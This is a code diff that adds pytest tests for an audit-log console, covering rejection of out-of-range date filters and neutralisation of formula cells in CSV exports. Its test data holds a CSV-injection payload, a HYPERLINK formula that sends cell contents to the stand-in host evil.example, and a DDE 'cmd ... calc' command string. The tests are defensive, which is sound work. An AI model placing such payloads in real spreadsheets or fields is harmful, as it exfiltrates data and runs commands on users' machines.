@@ -126,6 +126,40 @@ def test_the_audit_log_filters_by_actor_action_subject_and_date(as_olga, written
     assert "No events match" in as_olga.get("/console/audit/", {"since": "2001-01-01", "until": "2001-01-02"}).content.decode()
 
 
+@pytest.mark.parametrize("query", [{"until": "9999-12-31"}, {"since": "0001-01-01"}, {"since": "9999-12-31"},
+                                   {"until": "99999-01-01"}, {"since": "yesterday"}])
+def test_an_out_of_range_audit_date_is_a_form_error_not_a_500(as_olga, written_and_recalled, query):
+    page = as_olga.get("/console/audit/", query)
+    export = as_olga.get("/console/audit.csv", query)
+
+    assert page.status_code == 400 and 'role="alert"' in page.content.decode()
+    assert "No events match" in page.content.decode()  # nothing unfiltered shown under a refused filter
+    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
+
+
+def test_audit_dates_from_1970_to_2999_are_accepted(as_olga, written_and_recalled):
+    for query in ({"since": "1970-01-01"}, {"until": "2999-12-31"}):
+        assert as_olga.get("/console/audit/", query).status_code == 200
+        assert as_olga.get("/console/audit.csv", query).status_code == 200
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_audit_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_prefixed_with_a_quote(
+        as_olga, acme, alice, start):
+    from apps.audit.services import audit_record
+
+    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+    audit_record(workspace=acme, actor=Actor(type="agent", id="7", name=f"{start}cmd|' /C calc'!A0"),
+                 action="memory.created", subject=alice, reason=payload)
+
+    response = as_olga.get("/console/audit.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    row = dict(zip(rows[0], rows[1]))
+    assert row["reason"] == "'" + payload and row["actor_name"].startswith("'" + start)
+    assert all(not cell or cell[0] not in "=+-@\t\r" for line in rows for cell in line)
+
+
 def test_the_audit_csv_streams_with_headers_and_content(as_olga, written_and_recalled):
     response = as_olga.get("/console/audit.csv", {"subject": "alice"})
 
